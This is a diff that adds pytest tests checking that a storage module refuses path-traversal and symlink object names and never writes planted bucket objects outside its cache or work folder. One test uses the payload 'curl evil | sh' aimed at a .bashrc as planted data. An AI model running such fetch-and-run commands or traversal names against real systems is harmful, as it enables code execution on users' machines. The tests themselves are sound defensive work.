@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.hostile import plant_hostile_objects, victims_untouched
 from workload import storage
 
 
@@ -100,3 +101,60 @@ def test_client_without_credentials_explains_the_fix(
     with pytest.raises(storage.StorageError, match="gcloud auth application-default login"):
         storage.client()
     storage._client_for.cache_clear()
+
+
+@pytest.mark.parametrize(
+    "name", ["../x", "a/../../x", "/etc/x", "a//x", "a/./x", "./x", "a/", "", ".."]
+)
+def test_local_path_refuses_names_that_leave_the_folder(name: str, tmp_path: Path) -> None:
+    with pytest.raises(storage.UnsafeNameError, match="object name"):
+        storage.local_path(tmp_path, name)
+
+
+def test_local_path_refuses_a_name_that_leaves_through_a_symlink(tmp_path: Path) -> None:
+    (tmp_path / "root").mkdir()
+    (tmp_path / "root" / "link").symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(storage.UnsafeNameError, match="resolves outside"):
+        storage.local_path(tmp_path / "root", "link/x")
+
+
+def test_local_path_joins_a_plain_name(tmp_path: Path) -> None:
+    assert storage.local_path(tmp_path, "a/b..c/d.png") == tmp_path / "a" / "b..c" / "d.png"
+
+
+def test_vm_data_fetch_never_writes_outside_its_cache(
+    gcs_bucket_like_real_gcs: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from workload.data import fetch_data
+
+    bucket = gcs_bucket_like_real_gcs
+    storage.write_bytes(f"gs://{bucket}/data/ds/train/a/1.png", b"png")
+    victim = tmp_path / "home" / ".bashrc"
+    plant_hostile_objects(bucket, "data/ds", victim, b"curl evil | sh")
+    local = fetch_data(f"gs://{bucket}/data/ds", tmp_path / "cache", progress=False)
+    assert (local / "train/a/1.png").read_bytes() == b"png"
+    assert victims_untouched(victim)
+    assert capsys.readouterr().err.count("warning: not downloading") == 2
+
+
+def test_backup_restore_never_writes_outside_the_work_folder(
+    gcs_bucket_like_real_gcs: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from workload.config import TrainConfig
+    from workload.runstate import Run
+
+    bucket = gcs_bucket_like_real_gcs
+    config = TrainConfig(data="unused", out=f"gs://{bucket}/runs/r1", cache_dir=str(tmp_path / "c"))
+    state = {
+        "version": 1,
+        "fingerprint": config.fingerprint(),
+        "phases": {"head": {"epochs_done": 1, "done": False}},
+        "history": [],
+    }
+    storage.write_json(f"gs://{bucket}/runs/r1/backup/state.json", state)
+    victim = tmp_path / "home" / ".ipython" / "startup.py"
+    plant_hostile_objects(bucket, "runs/r1/backup", victim, b"import os")
+    run = Run(config)
+    assert run.state["phases"]["head"]["epochs_done"] == 1
+    assert victims_untouched(victim)
+    assert capsys.readouterr().err.count("warning: not downloading") == 2
